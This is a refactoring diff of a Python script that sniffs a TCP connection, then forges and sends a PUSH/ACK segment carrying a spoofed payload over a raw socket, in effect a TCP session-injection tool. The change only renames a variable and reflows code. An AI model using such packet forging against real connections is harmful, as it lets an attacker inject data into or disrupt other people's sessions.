@@ -73,11 +73,17 @@ def _sum(data: bytes) -> int:
     return ~total & 0xFFFF
 
 
-def _forged(source: str, target: str, what: _Next) -> bytes:
+def _forged(source: str, target: str, next_segment: _Next) -> bytes:
     """A packet with a segment of the connection."""
     ends = socket.inet_aton(source) + socket.inet_aton(target)
     words = struct.pack(
-        ">HHIIBBH", *what.ports, what.number, what.acknowledged, 5 << 4, _PUSH_ACK, what.window
+        ">HHIIBBH",
+        *next_segment.ports,
+        next_segment.number,
+        next_segment.acknowledged,
+        5 << 4,
+        _PUSH_ACK,
+        next_segment.window,
     )
     size = len(words) + 4 + len(_FORGED)
     pseudo = ends + struct.pack(">BBH", 0, socket.IPPROTO_TCP, size)
@@ -88,10 +94,10 @@ def _forged(source: str, target: str, what: _Next) -> bytes:
 
 
 def main(device: str, source: str, target: str, port: str) -> None:
-    what = _wait(device, source, target, int(port))
+    next_segment = _wait(device, source, target, int(port))
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as line:
-        line.sendto(_forged(source, target, what), (target, 0))
-    print(*what.ports, flush=True)  # noqa: T201
+        line.sendto(_forged(source, target, next_segment), (target, 0))
+    print(*next_segment.ports, flush=True)  # noqa: T201
 
 
 if __name__ == "__main__":
